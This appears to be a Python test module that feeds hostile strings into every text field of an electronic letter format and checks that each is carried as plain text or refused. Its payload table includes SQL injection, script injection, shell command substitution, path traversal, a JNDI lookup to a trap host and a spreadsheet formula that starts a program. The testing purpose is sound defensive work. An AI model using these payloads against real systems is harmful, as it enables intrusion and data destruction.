"""Texts that mean something to another program, in every text field there is.

All of them are legal in a letter, and people write some of them: they are carried as
they are, and wherever they appear they are words.
"""

from collections.abc import Iterator
from dataclasses import replace
from typing import Any, Final

from envelopes.letter import Attachment, LetterId, Reference
from tests.hostile.documents import TRAP
from tests.hostile.making import DATE, PDF, SUBJECT, a_letter, plain, spoiled
from tests.hostile.offices import HEALTH
from tests.hostile.parties import SEED_NUMBERED, UNKNOWN, notice
from tests.hostile.vector import Carried, Kind, Refused, Vector, Verdict

TEXTS: Final[dict[str, tuple[str, str]]] = {
    "slash": ("A slash, as every number has", "อว 0604/ว 1/2569"),
    "quotes": ("Quotes of every kind", "\"หนังสือ\" 'ด่วน' “ที่สุด” `"),
    "path": ("A path out of every folder", "../../../../tmp/hostile-was-here"),
    "path-absolute": ("An absolute path", "/tmp/hostile-was-here"),  # noqa: S108
    "path-windows": ("A path as Windows writes it", "..\\..\\C:\\hostile|con"),
    "sql": ("SQL that ends a statement", "'; DROP TABLE letter; --"),
    "sql-like": ("SQL that matches everything", "%' OR '1'='1"),
    "line": (
        "A line that looks like one of the log's",
        '1\r\n2026-11-21 [info] letter accepted organization=9900200000\n{"event": 1}',
    ),
    "terminal": ("A sequence that paints a terminal, and rings", "\x9b2J\x9b31m\x85ดับ"),
    "markup-of-rich": (
        "Markup of the screen's own library",
        "[red]a[/] [link=http://x]",
    ),
    "formula": ("A formula for a spreadsheet", '=HYPERLINK("http://x","ดู")'),
    "formula-command": ("A formula that starts a program", "@SUM(1)*cmd|' /C calc'!A0"),
    "html": ("HTML that runs", "<script>alert(1)</script>"),
    "html-attribute": ("HTML that leaves an attribute", '" onmouseover="alert(1)'),
    "address": ("An address that runs", "javascript:alert(1)//"),
    "template": ("A template", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"),
    "lookup": ("A look-up that fetches", f"${{jndi:ldap://{TRAP}/a}}"),
    "format": ("A format", "%s%n%x {0} {0.__class__} {self} %(x)s"),
    "shell": ("A command for a shell", "$(touch /tmp/hostile-was-here) `id`; id |id&"),
    "option": ("An option for a command", "--json"),
    "json": ("The end of a JSON text", '"}], "subject": "x'),
    "cdata": ("The end of a CDATA section", "]]><x/>"),
    "tabs": ("Tabs, which part columns", "ก\tข\tค"),
    "turned": ("Letters in the other direction", "ก\u202eabc\u202cข"),
}
"""What is wrong, and the text, by name."""


def vectors() -> Iterator[Vector]:
    """Yield the vectors of the three classes."""
    for name, (wrong, text) in TEXTS.items():
        own = f"subject-{name}"
        yield Vector(
            own, Kind.IN_SUBJECT, wrong, plain(own, subject=text), Carried(text)
        )
    for name, (wrong, text) in TEXTS.items():
        own = f"number-{name}"
        content = plain(own, id=LetterId(text, DATE))
        yield Vector(own, Kind.IN_NUMBER, wrong, content, Carried(text, "ID"))
    yield from _fields()


def _fields() -> Iterator[Vector]:
    """Yield a few texts in each field that is a text, and every field with one."""
    for field, path in _PATHS.items():
        for name in _OF_FIELD[field]:
            wrong, text = TEXTS[name]
            own = f"{field}-{name}"
            yield Vector(
                own,
                Kind.IN_FIELDS,
                f"{wrong}, as {path}",
                _with(own, field, text),
                Carried(text, path),
            )
    for name, element in (("message-id", "MessageID"), ("destination", "To")):
        for payload in ("line", "terminal"):
            wrong, text = TEXTS[payload]
            own = f"{name}-{payload}"
            yield Vector(
                own,
                Kind.IN_FIELDS,
                f"{wrong}, as wsa:{element}",
                spoiled(
                    plain(own),
                    f"></wsa:{element}>",
                    f">{_escaped(text)}</wsa:{element}>",
                ),
                Carried(SUBJECT),
            )
    for payload in ("sql", "line", "path"):
        wrong, text = TEXTS[payload]
        own = f"notifier-{payload}"
        yield Vector(
            own,
            Kind.IN_FIELDS,
            f"{wrong}, as the number a notifier is about",
            notice("ReceiveLetterNotifier", own, number=_escaped(text)),
            UNKNOWN,
            door=HEALTH,
        )
    for payload in ("line", "terminal", "formula"):
        wrong, text = TEXTS[payload]
        own = f"accept-id-{payload}"
        yield Vector(
            own,
            Kind.IN_FIELDS,
            f"{wrong}, as the number a letter was registered under",
            notice("AcceptLetterNotifier", SEED_NUMBERED, _escaped(text)),
            Carried(text, "AcceptID"),
            door=HEALTH,
        )
    yield from _codes()


def _codes() -> Iterator[Vector]:
    """Yield them where no text but only a code may stand."""
    cases: dict[str, tuple[str, str, str, Verdict]] = {
        "secrecy": ("SQL as level of secrecy", "<ram:SecretCode>001", "sql", _SCHEMA),
        "speed": (
            "A template as level of speed",
            "<ram:SpeedCode>001",
            "template",
            _SCHEMA,
        ),
        "date": ("A path as date", f"<ram:CorrespondenceDate>{DATE}", "path", _SCHEMA),
        "receiver": ("SQL as receiver", "<ram:ID>1500200050", "sql", _SCHEMA),
    }
    for field, (wrong, old, payload, verdict) in cases.items():
        own = f"{field}-{payload}"
        tag = old[: old.index(">") + 1]
        content = spoiled(plain(own), old, tag + _escaped(TEXTS[payload][1]))
        yield Vector(own, Kind.IN_FIELDS, wrong, content, verdict)


_SCHEMA: Final = Refused("schema-violated")
_PATHS: Final = {
    "given-name": "SenderParty/GivenName",
    "family-name": "SenderParty/FamilyName",
    "job-title": "ReceiverParty/JobTitle",
    "ministry": "SenderParty/MinistryOrganization/ID",
    "reference-number": "ReferenceCorrespondence/ID",
    "reference-subject": "ReferenceCorrespondence/Subject",
    "attachment-text": "Attachment",
    "description": "Description",
    "mime-code": "AttachmentBinaryObject/@mimeCode",
}
_OF_FIELD: Final = {
    "given-name": ("html", "line"),
    "family-name": ("sql",),
    "job-title": ("terminal", "formula", "line"),
    "ministry": ("format",),
    "reference-number": ("path",),
    "reference-subject": ("template", "terminal"),
    "attachment-text": ("shell", "path"),
    "description": ("line", "lookup"),
    "mime-code": ("path", "html-attribute"),
}


def _with(name: str, field: str, text: str) -> bytes:
    """Return a letter with this text in this field."""
    letter = a_letter(name)
    earlier = Reference("1/2569", "2026-01-01", SUBJECT)
    changed: dict[str, dict[str, Any]] = {
        "given-name": {"sender": replace(letter.sender, given_name=text)},
        "family-name": {"sender": replace(letter.sender, family_name=text)},
        "job-title": {"receiver": replace(letter.receiver, job_title=text)},
        "ministry": {"sender": replace(letter.sender, ministry=text)},
        "reference-number": {"references": (replace(earlier, number=text),)},
        "reference-subject": {"references": (replace(earlier, subject=text),)},
        "attachment-text": {"attachment_text": text},
        "description": {"description": text},
        "mime-code": {"attachments": (Attachment(text, PDF),)},
    }
    return plain(name, **changed[field])


def _escaped(text: str) -> str:
    for sign, reference in (("&", "&amp;"), ("<", "&lt;"), ("\r", "&#13;")):
        text = text.replace(sign, reference)
    return text
